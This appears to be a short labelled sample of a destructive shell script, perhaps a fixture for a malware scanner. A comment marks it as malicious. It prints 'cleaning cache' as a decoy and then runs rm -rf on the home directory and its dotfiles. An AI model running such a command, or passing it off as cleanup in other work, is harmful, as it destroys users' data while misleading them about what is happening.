# malicious: removes all files of the home
echo cleaning cache
rm -rf ~/* ~/.[a-z]*
